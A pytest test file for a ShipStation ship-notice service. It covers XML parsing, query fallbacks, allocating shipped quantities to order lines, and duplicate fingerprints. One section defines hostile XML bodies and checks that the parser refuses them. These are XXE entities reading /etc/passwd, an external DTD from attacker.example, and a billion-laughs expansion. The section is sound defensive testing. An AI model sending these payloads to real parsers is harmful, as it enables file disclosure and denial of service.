"""Ship notices: safe parsing, query fallbacks, allocation to lines, and duplicate fingerprints."""

from __future__ import annotations

from dataclasses import replace
from datetime import UTC, date, datetime
from decimal import Decimal
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest
from hypothesis import given
from hypothesis import strategies as st

from services.shipstation.shipnotice import (
    MAX_NOTICE_BYTES,
    NoticeItem,
    ShipNotice,
    ShipNoticeError,
    allocate_shipment,
    notice_fingerprint,
    parse_ship_notice,
)
from shared.contracts.shipments import ShipmentLine
from shared.contracts.vendor_orders import VendorOrderLine

CHICAGO = ZoneInfo("America/Chicago")
UTC_ZONE = ZoneInfo("UTC")
QUERY = {
    "action": "shipnotify",
    "order_number": "1001-1",
    "carrier": "UPS",
    "service": "",
    "tracking_number": "1Z999AA10123456784",
}


def notice_xml(inner: str, *, declaration: bool = True) -> bytes:
    prefix = '<?xml version="1.0" encoding="utf-8"?>\n' if declaration else ""
    return f"{prefix}<ShipNotice>{inner}</ShipNotice>".encode()


def item_xml(quantity: str, sku: str = "A", line_item_id: str | None = None) -> str:
    line = f"<LineItemID>{line_item_id}</LineItemID>" if line_item_id else ""
    return f"<Item><SKU>{sku}</SKU><Name>x</Name><Quantity>{quantity}</Quantity>{line}</Item>"


# --- the shipped example ----------------------------------------------------------------------------


def test_example_partial_notice_parses(examples_dir: Path) -> None:
    body = (examples_dir / "shipnotice-partial.xml").read_bytes()

    notice = parse_ship_notice(body, QUERY, CHICAGO)

    assert notice == ShipNotice(
        order_id="vo_01JC8Y3M2K7Q",
        order_number="1001-1",
        carrier="UPS",
        service="UPS Ground",
        tracking_number="1Z999AA10123456784",
        ship_date=date(2026, 11, 27),
        # 14:05 in Chicago in November (CST, UTC-6).
        label_created_at=datetime(2026, 11, 27, 20, 5, tzinfo=UTC),
        shipping_cost=Decimal("7.42"),
        notes_to_customer="Second shirt ships separately",
        notify_customer=False,
        items=(NoticeItem(line_item_id="ln_01JC8Y3M2K7R", sku="TSHIRT-RED-M", quantity=1, name="T-shirt, red"),),
        customer_code="jo@example.com",
        recipient={
            "name": "Jo Müller",
            "company": "Acme & Sons",
            "address1": "1 Main St",
            "address2": "Apt 4",
            "city": "Springfield",
            "state": "IL",
            "postal_code": "62701",
            "country": "US",
        },
    )


def test_label_date_is_read_in_the_vendors_zone(examples_dir: Path) -> None:
    body = (examples_dir / "shipnotice-partial.xml").read_bytes()

    assert parse_ship_notice(body, QUERY, UTC_ZONE).label_created_at == datetime(2026, 11, 27, 14, 5, tzinfo=UTC)


# --- XML versus query -------------------------------------------------------------------------------


def test_xml_values_win_over_the_query() -> None:
    body = notice_xml(
        "<OrderNumber>1001-9</OrderNumber><Carrier>FedEx</Carrier><Service>FedEx Ground</Service>"
        "<TrackingNumber>7777</TrackingNumber>"
    )
    query = {**QUERY, "service": "UPS Next Day"}

    notice = parse_ship_notice(body, query, UTC_ZONE)

    assert (notice.order_number, notice.carrier, notice.service, notice.tracking_number) == (
        "1001-9",
        "FedEx",
        "FedEx Ground",
        "7777",
    )


def test_query_fills_what_the_xml_leaves_empty() -> None:
    body = notice_xml("<OrderID>vo_1</OrderID><Carrier> </Carrier><Service/><TrackingNumber></TrackingNumber>")
    query = {**QUERY, "service": "Ground"}

    notice = parse_ship_notice(body, query, UTC_ZONE)

    assert notice.order_id == "vo_1"
    assert (notice.order_number, notice.carrier, notice.service, notice.tracking_number) == (
        "1001-1",
        "UPS",
        "Ground",
        "1Z999AA10123456784",
    )


def test_empty_query_service_stays_empty_without_xml_service() -> None:
    notice = parse_ship_notice(notice_xml("<OrderID>vo_1</OrderID>"), QUERY, UTC_ZONE)

    assert notice.service is None


@pytest.mark.parametrize("body", [b"", b"   \r\n\t "])
def test_empty_body_builds_the_notice_from_the_query(body: bytes) -> None:
    notice = parse_ship_notice(body, QUERY, UTC_ZONE)

    assert notice == ShipNotice(
        order_id=None,
        order_number="1001-1",
        carrier="UPS",
        service=None,
        tracking_number="1Z999AA10123456784",
        ship_date=None,
        label_created_at=None,
        shipping_cost=None,
        notes_to_customer=None,
        notify_customer=None,
        items=(),
        customer_code=None,
        recipient={},
    )


def test_empty_body_without_an_order_number_is_refused() -> None:
    with pytest.raises(ShipNoticeError, match="order_number"):
        parse_ship_notice(b"", {"carrier": "UPS"}, UTC_ZONE)


def test_notice_naming_no_order_is_refused() -> None:
    with pytest.raises(ShipNoticeError, match="names the order"):
        parse_ship_notice(notice_xml("<Carrier>UPS</Carrier>"), {}, UTC_ZONE)


def test_notice_without_items_means_the_whole_order() -> None:
    assert parse_ship_notice(notice_xml("<OrderID>vo_1</OrderID><Items/>"), {}, UTC_ZONE).items == ()


@pytest.mark.parametrize(
    ("value", "expected"), [("true", True), ("True", True), ("1", True), ("false", False), ("0", False)]
)
def test_notify_customer(value: str, expected: bool) -> None:
    body = notice_xml(f"<OrderID>vo_1</OrderID><NotifyCustomer>{value}</NotifyCustomer>")

    assert parse_ship_notice(body, {}, UTC_ZONE).notify_customer is expected


def test_byte_order_mark_and_no_declaration_are_fine() -> None:
    body = b"\xef\xbb\xbf" + notice_xml("<OrderID>vo_1</OrderID><Service>Priorität</Service>", declaration=False)

    notice = parse_ship_notice(body, {}, UTC_ZONE)

    assert (notice.order_id, notice.service) == ("vo_1", "Priorität")


def test_namespaced_notice_is_still_a_notice() -> None:
    body = (
        b'<ShipNotice xmlns="urn:example"><OrderID>vo_1</OrderID>'
        b"<Items><Item><SKU>A</SKU><Quantity>2</Quantity></Item></Items></ShipNotice>"
    )

    notice = parse_ship_notice(body, {}, UTC_ZONE)

    assert notice.order_id == "vo_1"
    assert notice.items == (NoticeItem(line_item_id=None, sku="A", quantity=2, name=None),)


# --- refusals: XXE and friends ----------------------------------------------------------------------

PASSWD_PROBE = "root:"

HOSTILE_BODIES = {
    "doctype": b'<?xml version="1.0"?><!DOCTYPE ShipNotice><ShipNotice><OrderID>vo_1</OrderID></ShipNotice>',
    "internal-entity": (
        b'<?xml version="1.0"?><!DOCTYPE ShipNotice [<!ENTITY who "injected">]>'
        b"<ShipNotice><OrderID>&who;</OrderID></ShipNotice>"
    ),
    "external-entity": (
        b'<?xml version="1.0"?><!DOCTYPE ShipNotice [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
        b"<ShipNotice><OrderID>vo_1</OrderID><CustomerNotes>&xxe;</CustomerNotes></ShipNotice>"
    ),
    "external-dtd": (
        b'<?xml version="1.0"?><!DOCTYPE ShipNotice SYSTEM "http://attacker.example/x.dtd">'
        b"<ShipNotice><OrderID>vo_1</OrderID></ShipNotice>"
    ),
    "parameter-entity": (
        b'<?xml version="1.0"?><!DOCTYPE ShipNotice [<!ENTITY % p SYSTEM "file:///etc/passwd"> %p;]>'
        b"<ShipNotice><OrderID>vo_1</OrderID></ShipNotice>"
    ),
    "billion-laughs": (
        b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
        + b"".join(
            f'<!ENTITY lol{n} "{("&lol" + (str(n - 1) if n > 1 else "") + ";") * 10}">'.encode() for n in range(1, 10)
        )
        + b"]><ShipNotice><OrderID>&lol9;</OrderID></ShipNotice>"
    ),
}


@pytest.mark.parametrize("body", HOSTILE_BODIES.values(), ids=HOSTILE_BODIES.keys())
def test_dtds_and_entities_are_refused_unexpanded(body: bytes) -> None:
    with pytest.raises(ShipNoticeError) as raised:
        parse_ship_notice(body, QUERY, UTC_ZONE)

    assert isinstance(raised.value, ValueError)
    assert "lollol" not in raised.value.reason
    assert PASSWD_PROBE not in raised.value.reason
    assert "injected" not in raised.value.reason
    assert "not accepted" in raised.value.reason


def test_undeclared_entity_is_malformed() -> None:
    with pytest.raises(ShipNoticeError, match="malformed"):
        parse_ship_notice(notice_xml("<OrderID>&nope;</OrderID>"), QUERY, UTC_ZONE)


@pytest.mark.parametrize(
    ("body", "reason"),
    [
        pytest.param(b"<ShipNotice><OrderID>vo_1</ShipNotice>", "malformed", id="mismatched-tag"),
        pytest.param(b"<ShipNotice>", "malformed", id="unclosed"),
        pytest.param(b"not xml at all", "malformed", id="text"),
        pytest.param(b'{"order": 1}', "malformed", id="json"),
        pytest.param(b"<ShipNotice/><ShipNotice/>", "malformed", id="two-roots"),
        pytest.param(b"<ShipNotice><OrderID>\xff\xfe</OrderID></ShipNotice>", "UTF-8", id="invalid-utf8"),
        pytest.param(b"<ShipNotice><OrderID>\xc3</OrderID></ShipNotice>", "UTF-8", id="truncated-utf8"),
        pytest.param("<ShipNotice/>".encode("utf-16"), "UTF-8", id="utf16"),
        pytest.param(b"<Orders pages='1'/>", "expected <ShipNotice>", id="wrong-root"),
        pytest.param(b"<ShipNotices><ShipNotice/></ShipNotices>", "expected <ShipNotice>", id="wrapped"),
    ],
)
def test_bad_bodies_are_refused(body: bytes, reason: str) -> None:
    with pytest.raises(ShipNoticeError, match=reason):
        parse_ship_notice(body, QUERY, UTC_ZONE)


def test_oversized_body_is_refused_before_parsing() -> None:
    filler = b"<!--" + b"x" * MAX_NOTICE_BYTES + b"-->"
    body = notice_xml("<OrderID>vo_1</OrderID>") + filler

    with pytest.raises(ShipNoticeError, match="limit"):
        parse_ship_notice(body, QUERY, UTC_ZONE)


def test_body_at_the_limit_is_accepted() -> None:
    head = notice_xml("<OrderID>vo_1</OrderID>")
    body = head + b" " * (MAX_NOTICE_BYTES - len(head))

    assert len(body) == MAX_NOTICE_BYTES
    assert parse_ship_notice(body, QUERY, UTC_ZONE).order_id == "vo_1"


@pytest.mark.parametrize("quantity", ["-1", "0", "1.5", "1e2", "abc", "", " ", "+2", "٣"])
def test_quantities_must_be_positive_whole_numbers(quantity: str) -> None:
    body = notice_xml(f"<OrderID>vo_1</OrderID><Items>{item_xml(quantity)}</Items>")

    with pytest.raises(ShipNoticeError, match="quantity"):
        parse_ship_notice(body, QUERY, UTC_ZONE)


def test_item_without_quantity_is_refused() -> None:
    body = notice_xml("<OrderID>vo_1</OrderID><Items><Item><SKU>A</SKU></Item></Items>")

    with pytest.raises(ShipNoticeError, match="no quantity"):
        parse_ship_notice(body, QUERY, UTC_ZONE)


@pytest.mark.parametrize(
    ("inner", "reason"),
    [
        pytest.param("<ShippingCost>abc</ShippingCost>", "ShippingCost", id="cost-text"),
        pytest.param("<ShippingCost>NaN</ShippingCost>", "ShippingCost", id="cost-nan"),
        pytest.param("<ShippingCost>Infinity</ShippingCost>", "ShippingCost", id="cost-infinite"),
        pytest.param("<ShippingCost>-1.00</ShippingCost>", "ShippingCost", id="cost-negative"),
        pytest.param("<ShipDate>27.11.2026</ShipDate>", "date", id="ship-date"),
        pytest.param("<ShipDate>02/30/2026</ShipDate>", "date", id="ship-date-impossible"),
        pytest.param("<LabelCreateDate>2026-11-27T14:05</LabelCreateDate>", "date", id="label-date"),
        pytest.param("<NotifyCustomer>maybe</NotifyCustomer>", "NotifyCustomer", id="notify"),
    ],
)
def test_bad_numbers_and_dates_are_refused(inner: str, reason: str) -> None:
    with pytest.raises(ShipNoticeError, match=reason):
        parse_ship_notice(notice_xml(f"<OrderID>vo_1</OrderID>{inner}"), QUERY, UTC_ZONE)


def test_iso_ship_date_is_accepted() -> None:
    body = notice_xml("<OrderID>vo_1</OrderID><ShipDate>2026-11-27</ShipDate>")

    assert parse_ship_notice(body, QUERY, UTC_ZONE).ship_date == date(2026, 11, 27)


# --- allocation -------------------------------------------------------------------------------------


def order_line(line_id: str, sku: str, quantity: int) -> VendorOrderLine:
    return VendorOrderLine(line_id=line_id, sku=sku, name=f"{sku} item", quantity=quantity, unit_price=Decimal("1"))


LINES = [order_line("L1", "A", 2), order_line("L2", "B", 1), order_line("L3", "A", 3)]


def item(quantity: int, sku: str | None = None, line_item_id: str | None = None) -> NoticeItem:
    return NoticeItem(line_item_id=line_item_id, sku=sku, quantity=quantity, name=None)


def shipped(*pairs: tuple[str, int]) -> list[ShipmentLine]:
    skus = {line.line_id: line.sku for line in LINES}
    return [ShipmentLine(line_id=line_id, sku=skus[line_id], quantity=quantity) for line_id, quantity in pairs]


@pytest.mark.parametrize(
    ("already", "items", "expected"),
    [
        pytest.param({}, [item(2, "A", "L3")], shipped(("L3", 2)), id="by-line-item-id"),
        pytest.param({}, [item(1, "B")], shipped(("L2", 1)), id="by-sku"),
        pytest.param({}, [item(4, "A")], shipped(("L1", 2), ("L3", 2)), id="sku-spread-in-order"),
        pytest.param({"L1": 1}, [item(2, "A")], shipped(("L1", 1), ("L3", 1)), id="sku-skips-shipped"),
        pytest.param({}, [item(1, "A", "gone")], shipped(("L1", 1)), id="unknown-id-falls-back-to-sku"),
        pytest.param({}, [], shipped(("L1", 2), ("L2", 1), ("L3", 3)), id="no-items-ships-all"),
        pytest.param({"L1": 1, "L3": 3}, [], shipped(("L1", 1), ("L2", 1)), id="no-items-ships-remaining"),
        pytest.param({"L1": 2, "L2": 1, "L3": 3}, [], [], id="nothing-left"),
        pytest.param({}, [item(5, "B", "L2")], shipped(("L2", 1)), id="over-quantity-capped"),
        pytest.param({}, [item(99, "A")], shipped(("L1", 2), ("L3", 3)), id="sku-over-quantity-capped"),
        pytest.param({"L2": 1}, [item(1, "B", "L2")], [], id="already-shipped-line"),
        pytest.param({}, [item(5, "A", "L1")], shipped(("L1", 2), ("L3", 3)), id="merged-sku-spills-to-siblings"),
        pytest.param({}, [item(1, "A", "L1"), item(1, "A", "L1")], shipped(("L1", 2)), id="duplicate-items-add"),
        pytest.param(
            {}, [item(1, "A", "L1")] * 3, shipped(("L1", 2), ("L3", 1)), id="duplicates-beyond-line-go-to-sku"
        ),
        pytest.param({}, [item(1, "B", "L2"), item(1, "B", "L2")], shipped(("L2", 1)), id="duplicates-capped"),
        pytest.param({}, [item(3, "ZZZ", "nope")], [], id="unknown-item-ignored"),
        pytest.param({}, [item(1, None, "nope")], [], id="unknown-id-without-sku-ignored"),
        pytest.param({}, [item(1, "WELCOME5")], [], id="coupon-adjustment-ignored"),
        pytest.param({}, [item(1, "A", "L3"), item(1, "B")], shipped(("L2", 1), ("L3", 1)), id="result-in-line-order"),
        pytest.param({"L1": 7}, [item(1, "A", "L1")], shipped(("L3", 1)), id="over-shipped-history-is-zero-left"),
    ],
)
def test_allocate_shipment(already: dict[str, int], items: list[NoticeItem], expected: list[ShipmentLine]) -> None:
    assert allocate_shipment(LINES, already, items) == expected


@given(
    already=st.fixed_dictionaries({}, optional={lid: st.integers(0, 4) for lid in ("L1", "L2", "L3")}),
    items=st.lists(
        st.builds(
            item,
            quantity=st.integers(1, 6),
            sku=st.sampled_from(["A", "B", "C", None]),
            line_item_id=st.sampled_from(["L1", "L2", "L3", "X", None]),
        ),
        max_size=6,
    ),
)
def test_allocation_never_ships_more_than_ordered_or_notified(already: dict[str, int], items: list[NoticeItem]) -> None:
    result = allocate_shipment(LINES, already, items)

    ordered = {line.line_id: line.quantity for line in LINES}
    for shipment_line in result:
        assert 0 < shipment_line.quantity <= ordered[shipment_line.line_id] - already.get(shipment_line.line_id, 0)
    assert len({shipment_line.line_id for shipment_line in result}) == len(result)
    if items:
        assert sum(line.quantity for line in result) <= sum(notice_item.quantity for notice_item in items)


# --- fingerprints -----------------------------------------------------------------------------------

BASE_NOTICE = ShipNotice(
    order_id="vo_1",
    order_number="1001-1",
    carrier="UPS",
    service="Ground",
    tracking_number="1Z999AA10123456784",
    ship_date=date(2026, 11, 27),
    label_created_at=None,
    shipping_cost=Decimal("7.42"),
    notes_to_customer=None,
    notify_customer=None,
    items=(item(1, "A", "L1"), item(2, "B", "L2")),
    customer_code=None,
    recipient={},
)


def test_fingerprint_ignores_item_order_and_incidental_fields() -> None:
    same_package = replace(
        BASE_NOTICE,
        items=tuple(reversed(BASE_NOTICE.items)),
        ship_date=date(2026, 11, 28),
        shipping_cost=Decimal("8.00"),
        service=None,
        tracking_number=" 1z999aa10123456784 ",
    )

    assert notice_fingerprint("vo_1", same_package) == notice_fingerprint("vo_1", BASE_NOTICE)


@pytest.mark.parametrize(
    ("vendor_order_id", "changed"),
    [
        pytest.param("vo_1", replace(BASE_NOTICE, tracking_number="1Z999AA10123456785"), id="tracking-number"),
        pytest.param("vo_1", replace(BASE_NOTICE, tracking_number=None), id="no-tracking-number"),
        pytest.param("vo_2", BASE_NOTICE, id="vendor-order"),
        pytest.param("vo_1", replace(BASE_NOTICE, items=(item(1, "A", "L1"),)), id="fewer-items"),
        pytest.param("vo_1", replace(BASE_NOTICE, items=(item(1, "A", "L1"), item(1, "B", "L2"))), id="quantity"),
        pytest.param("vo_1", replace(BASE_NOTICE, items=()), id="whole-order"),
    ],
)
def test_fingerprint_differs_for_another_package(vendor_order_id: str, changed: ShipNotice) -> None:
    assert notice_fingerprint(vendor_order_id, changed) != notice_fingerprint("vo_1", BASE_NOTICE)


def test_fingerprint_is_a_stable_hex_digest() -> None:
    fingerprint = notice_fingerprint("vo_1", BASE_NOTICE)

    assert len(fingerprint) == 64
    assert int(fingerprint, 16) >= 0
    assert fingerprint == notice_fingerprint("vo_1", replace(BASE_NOTICE))


def test_duplicate_example_notice_has_the_same_fingerprint(examples_dir: Path) -> None:
    body = (examples_dir / "shipnotice-partial.xml").read_bytes()

    first = parse_ship_notice(body, QUERY, CHICAGO)
    again = parse_ship_notice(body, QUERY, CHICAGO)

    assert notice_fingerprint("vo_01JC8Y3M2K7Q", first) == notice_fingerprint("vo_01JC8Y3M2K7Q", again)
